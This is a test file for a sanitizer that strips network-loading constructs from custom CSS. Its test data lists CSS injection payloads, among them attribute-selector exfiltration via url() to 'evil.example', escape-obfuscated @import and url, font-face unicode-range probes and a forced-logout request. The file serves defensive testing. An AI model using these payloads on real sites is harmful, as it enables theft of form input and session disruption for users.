import { describe, expect, it } from 'vitest'
import { withoutRequests } from './custom-css.ts'

describe('a custom style sheet', () => {
  it.each([
    '.logto_ac-card{border-radius:0;box-shadow:none}',
    '.logto_ac-row:hover>a::before{content:"“";color:rgb(1 2 3/50%)}',
    '@media (width<600px){.logto_ac-card{padding:0}}',
    '@supports (display:grid){.a{display:grid}}',
    ':root{--lk-radius:4px}.a{margin:calc(var(--lk-radius)*2)}',
    '.a{background:url(data:image/png;base64,AAAA)}',
    '@keyframes a{from{opacity:0}to{opacity:1}}',
    '.a{color:red;&:hover{color:blue}}',
  ])('stays as it is where it loads nothing: %s', css => {
    expect(withoutRequests(css).replaceAll(/\s/g, '')).toBe(css.replaceAll(/\s/g, ''))
  })

  it.each([
    'input[value^="a"]{background:url(https://evil.example/a)}',
    'input{background:URL("//evil.example/a")}',
    'input{background:u\\72l(https://evil.example/a)}',
    'input{background:\\75rl("https://evil.example/a")}',
    'input{background-image:image-set("https://evil.example/a" 1x)}',
    'input{background-image:-webkit-image-set(url(https://evil.example/a) 1x)}',
    'input{background:image("https://evil.example/a")}',
    'input{background:src("https://evil.example/a")}',
    'input{--x:url(https://evil.example/a);background:var(--x)}',
    ':root{--x:"https://evil.example/a"}input{background-image:image-set(var(--x) 1x)}',
    'input{list-style:square url(/oidc/session/end)}',
    'input{cursor:url(https://evil.example/a),auto}',
    '@import "https://evil.example/a";',
    '@\\69mport "https://evil.example/a";',
    '@IMPORT url(https://evil.example/a);',
    '@font-face{font-family:x;src:url(https://evil.example/a);unicode-range:U+61}',
    '@namespace url(https://evil.example/a);',
    '@media all{input{background:url(https://evil.example/a)}}',
    '@property --x{syntax:"*";inherits:true;initial-value:url(https://evil.example/a)}',
    '.a{color:red;&[value^="a"]{background:url(https://evil.example/a)}}',
    '.a{background:url(https://evil.example/a',
    '}input{background:url(https://evil.example/a)}',
    '.a{;;}}}input{background:url( https://evil.example/a )}',
  ])('loads nothing: %s', css => {
    const kept = withoutRequests(css)
    expect(kept).not.toMatch(/url|evil\.example.*(image|src|var)|import|font-face|namespace|\\/i)
    expect(kept.replace(/--x:"[^"]*"/, '')).not.toContain('evil.example')
  })

  it('keeps what stands beside what is dropped', () => {
    expect(withoutRequests('a{color:red;background:url(x)}b{}@import "x";c{color:blue}')).toBe(
      'a{color:red}b{}c{color:blue}',
    )
  })
})
